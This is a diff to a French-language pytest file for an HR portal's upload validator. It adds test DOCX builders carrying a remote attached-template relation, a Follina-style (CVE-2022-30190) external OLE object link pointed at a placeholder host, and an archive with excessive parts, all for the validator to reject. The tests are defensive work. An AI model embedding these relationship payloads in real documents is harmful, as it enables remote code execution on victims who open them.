@@ -47,6 +47,50 @@ def odt_avec_basic() -> bytes:
     return tampon.getvalue()
 
 
+def docx_avec_relation(relation: str, partie: str = "word/_rels/settings.xml.rels") -> bytes:
+    """Un DOCX dont une partie porte la relation donnée."""
+    tampon = io.BytesIO()
+    with zipfile.ZipFile(tampon, "w") as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("word/document.xml", "<w:document/>")
+        archive.writestr(
+            partie,
+            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+            f'package/2006/relationships">{relation}</Relationships>',
+        )
+    return tampon.getvalue()
+
+
+# Un modèle .dotm distant, chargé par Word à l'ouverture (injection de modèle).
+MODELE_DISTANT = docx_avec_relation(
+    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    'relationships/attachedTemplate" Target="https://exemple.invalid/modele.dotm" '
+    'TargetMode="External"/>'
+)
+# Un objet OLE lié vers un serveur (l'attaque « Follina », CVE-2022-30190), guillemets simples.
+OBJET_DISTANT = docx_avec_relation(
+    "<Relationship Id='rId9' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
+    "relationships/oleObject' Target='http://exemple.invalid/x.html!' TargetMode='External'/>",
+    partie="word/_rels/document.xml.rels",
+)
+# Un lien hypertexte vers un site est ordinaire.
+LIEN_HYPERTEXTE = docx_avec_relation(
+    '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    'relationships/hyperlink" Target="https://travail-emploi.gouv.fr" TargetMode="External"/>',
+    partie="word/_rels/document.xml.rels",
+)
+
+
+def docx_aux_mille_parties(parties: int) -> bytes:
+    tampon = io.BytesIO()
+    with zipfile.ZipFile(tampon, "w") as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("word/document.xml", "<w:document/>")
+        for numero in range(parties):
+            archive.writestr(f"word/media/vide{numero}.bin", b"")
+    return tampon.getvalue()
+
+
 def zip_quelconque() -> bytes:
     tampon = io.BytesIO()
     with zipfile.ZipFile(tampon, "w") as archive:
@@ -65,6 +109,11 @@ def zip_quelconque() -> bytes:
         (zip_quelconque(), None),
         (docm_renomme(), None),
         (odt_avec_basic(), None),
+        (MODELE_DISTANT, None),
+        (OBJET_DISTANT, None),
+        (LIEN_HYPERTEXTE, fichiers.DOCX),
+        (docx_aux_mille_parties(fichiers.PARTIES_MAX - 2), fichiers.DOCX),
+        (docx_aux_mille_parties(fichiers.PARTIES_MAX - 1), None),
         (b"PK\x03\x04 archive tronquee", None),
         (b"<html><script>alert(1)</script></html>", None),
         (b"MZ\x90\x00", None),
@@ -77,10 +126,18 @@ def test_le_format_vient_du_contenu(contenu, attendu):
 
 @pytest.mark.parametrize(
     ("contenu", "attendu"),
-    [(docm_renomme(), True), (odt_avec_basic(), True), (docx(), False), (odt(), False)],
+    [
+        (docm_renomme(), True),
+        (odt_avec_basic(), True),
+        (MODELE_DISTANT, True),
+        (OBJET_DISTANT, True),
+        (LIEN_HYPERTEXTE, False),
+        (docx(), False),
+        (odt(), False),
+    ],
 )
-def test_les_macros_sont_reperees(contenu, attendu):
-    assert fichiers.a_des_macros(io.BytesIO(contenu)) is attendu
+def test_les_macros_et_les_renvois_exterieurs_sont_reperes(contenu, attendu):
+    assert fichiers.a_du_contenu_actif(io.BytesIO(contenu)) is attendu
 
 
 def test_un_vrai_docx_du_portail_n_a_pas_de_macros():
@@ -89,5 +146,5 @@ def test_un_vrai_docx_du_portail_n_a_pas_de_macros():
     from rh_tpe.modeles.docx import rendre_docx
 
     _nom, _mime, contenu = rendre_docx(composer("cdi", type_document("cdi").exemple).document)
-    assert fichiers.a_des_macros(io.BytesIO(contenu)) is False
+    assert fichiers.a_du_contenu_actif(io.BytesIO(contenu)) is False
     assert fichiers.format_reconnu(io.BytesIO(contenu)) == fichiers.DOCX
